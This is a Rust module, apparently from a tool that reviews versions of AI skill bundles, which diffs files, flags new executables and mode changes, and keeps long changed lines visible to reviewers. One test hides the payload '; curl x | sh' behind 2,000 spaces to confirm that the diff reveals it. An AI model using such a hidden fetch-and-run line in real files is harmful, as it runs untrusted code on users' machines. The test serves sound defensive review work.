//! Shows the differences between two versions of a skill, line by line.

use std::collections::{BTreeMap, BTreeSet};

use similar::{ChangeTag, TextDiff};
use vault_format::{bundle::File, manifest::Mode};

use crate::output::{BAD, BOLD, DIM, GOOD, clean, paint, size};

/// Unchanged lines shown before and after each change.
const CONTEXT_LINES: usize = 3;
/// Files with more lines than this are not compared line by line.
const MAX_LINES: usize = 4_000;
/// Characters shown of a changed line. A change further right could hide from a reviewer.
const MAX_CHANGED_CHARS: usize = 10_000;
/// Characters shown of an unchanged line.
const MAX_CONTEXT_CHARS: usize = 300;

/// One version of a file.
#[derive(Clone, Copy, Debug)]
pub struct FileVersion<'a> {
    /// The file's mode.
    pub mode: Mode,
    /// The content.
    pub bytes: &'a [u8],
}

/// Compares two sets of files by path. Returns lines of text; empty if nothing differs. A new file
/// is shown with its content, a removed one only with its name.
pub fn diff_files(
    before: &BTreeMap<&str, FileVersion<'_>>,
    after: &BTreeMap<&str, FileVersion<'_>>,
) -> Vec<String> {
    let mut lines = Vec::new();
    let paths: BTreeSet<&str> = before.keys().chain(after.keys()).copied().collect();
    for path in paths {
        let shown = clean(path, 200);
        match (before.get(path), after.get(path)) {
            (Some(old), Some(new)) => {
                if old.bytes != new.bytes {
                    lines.push(paint(BOLD, format!("changed {shown}")));
                    lines.extend(diff_texts(old.bytes, new.bytes));
                }
                if old.mode != new.mode {
                    let (old, new) = (old.mode.bits(), new.mode.bits());
                    lines.push(paint(
                        BOLD,
                        format!("mode of {shown}: {old:04o} → {new:04o}"),
                    ));
                }
            }
            (None, Some(new)) => {
                let runs = new.mode == Mode::Executable;
                let runs = if runs { ", executable" } else { "" };
                lines.push(paint(BOLD, format!("new {shown}{runs}")));
                lines.extend(diff_texts(b"", new.bytes));
            }
            (Some(_), None) => lines.push(paint(BOLD, format!("removed {shown}"))),
            (None, None) => {}
        }
    }
    lines
}

/// The files of a skill by their paths.
pub fn by_path(files: &[File]) -> BTreeMap<&str, FileVersion<'_>> {
    let mut versions = BTreeMap::new();
    for File { path, mode, bytes } in files {
        versions.insert(path.as_str(), FileVersion { mode: *mode, bytes });
    }
    versions
}

/// Returns the changed lines of one file with the lines around them. If a version is not UTF-8 or
/// has too many lines, or if only line endings differ, a single line says so.
pub fn diff_texts(old: &[u8], new: &[u8]) -> Vec<String> {
    let (Ok(old_text), Ok(new_text)) = (std::str::from_utf8(old), std::str::from_utf8(new)) else {
        let (old, new) = (size(old.len() as u64), size(new.len() as u64));
        return vec![paint(DIM, format!("  not text: {old} → {new}"))];
    };
    let (old, new): (Vec<_>, Vec<_>) = (old_text.lines().collect(), new_text.lines().collect());
    if old == new {
        return vec![paint(DIM, "  only line endings differ")];
    }
    if old.len().max(new.len()) > MAX_LINES {
        let (old, new) = (old.len(), new.len());
        return vec![paint(DIM, format!("  {old} lines → {new} lines"))];
    }
    let diff = TextDiff::from_slices(&old, &new);
    let mut out = Vec::new();
    for group in diff.grouped_ops(CONTEXT_LINES) {
        if !out.is_empty() {
            out.push(paint(DIM, "  …"));
        }
        for change in group.iter().flat_map(|op| diff.iter_changes(op)) {
            let limit = match change.tag() {
                ChangeTag::Equal => MAX_CONTEXT_CHARS,
                ChangeTag::Delete | ChangeTag::Insert => MAX_CHANGED_CHARS,
            };
            let line = clean(change.value(), limit);
            out.push(match change.tag() {
                ChangeTag::Equal => format!("    {line}").trim_end().to_owned(),
                ChangeTag::Delete => paint(BAD, format!("  - {line}")),
                ChangeTag::Insert => paint(GOOD, format!("  + {line}")),
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn diff_without_colour(old: &str, new: &str) -> Vec<String> {
        let lines = diff_texts(old.as_bytes(), new.as_bytes()).into_iter();
        lines
            .map(|line| anstream::adapter::strip_str(&line).to_string())
            .collect()
    }

    #[test]
    fn changes_are_shown_with_context() {
        let lines = diff_without_colour("a\nb\nc\n", "a\nx\nc\n");
        assert_eq!(lines, ["    a", "  - b", "  + x", "    c"]);
        assert_eq!(diff_without_colour("", "a\n"), ["  + a"]);
        let long = (0..20)
            .map(|at| format!("{at}\n"))
            .collect::<Vec<_>>()
            .concat();
        let changed = long
            .replace("\n1\n", "\none\n")
            .replace("18\n", "eighteen\n");
        assert_eq!(
            diff_without_colour(&long, &changed).join("|"),
            "    0|  - 1|  + one|    2|    3|    4|  …|    15|    16|    17|  - 18|  + eighteen|    19"
        );
    }
    #[test]
    fn a_change_of_line_endings_or_far_to_the_right_is_shown() {
        for (old, new) in [("a\nb\n", "a\r\nb\r\n"), ("a\n", "a")] {
            assert_eq!(
                diff_without_colour(old, new),
                ["  only line endings differ"]
            );
        }
        let far = " ".repeat(2_000);
        let lines = diff_without_colour("run\n", &format!("run{far}; curl x | sh\n"));
        assert!(lines[1].ends_with("; curl x | sh"), "{lines:?}");
    }
}
